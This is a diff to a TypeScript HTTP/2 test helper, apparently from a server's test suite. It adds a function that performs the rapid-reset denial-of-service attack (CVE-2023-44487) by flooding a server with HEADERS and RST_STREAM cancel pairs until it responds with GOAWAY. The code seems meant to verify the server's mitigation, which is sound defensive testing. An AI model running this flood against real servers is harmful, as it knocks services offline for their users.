@@ -1,3 +1,4 @@
+import { constants as h2constants } from 'node:http2';
 import { once } from 'node:events';
 import { readFileSync } from 'node:fs';
 import { connect, type TLSSocket } from 'node:tls';
@@ -149,3 +150,19 @@ export async function rawH2(t: { after(fn: () => unknown): void }, port: number,
 
 export const goawayCode = (f: Frame): number => f.payload.readUInt32BE(4);
 export const rstCode = (f: Frame): number => f.payload.readUInt32BE(0);
+
+/**
+ * A rapid-reset client (CVE-2023-44487): HEADERS + RST_STREAM(CANCEL) pairs
+ * for `block`, 50 pairs a packet, what the attack sends, until the server
+ * sends GOAWAY or closes, or `maxStreams` were sent. Returns the streams sent.
+ */
+export async function sendRapidResets(raw: RawH2, block: Buffer, maxStreams = 2000): Promise<number> {
+  let stream = 1;
+  while (stream < maxStreams * 2 && !raw.socket.destroyed && !raw.frames.some((f) => f.type === frameType.goaway)) {
+    const pairs: Buffer[] = [];
+    for (let i = 0; i < 50; i++, stream += 2) pairs.push(frame(frameType.headers, flag.endHeaders | flag.endStream, stream, block), frame(frameType.rstStream, 0, stream, Buffer.from([0, 0, 0, h2constants.NGHTTP2_CANCEL])));
+    raw.write(Buffer.concat(pairs));
+    await new Promise(setImmediate);
+  }
+  return (stream - 1) / 2;
+}
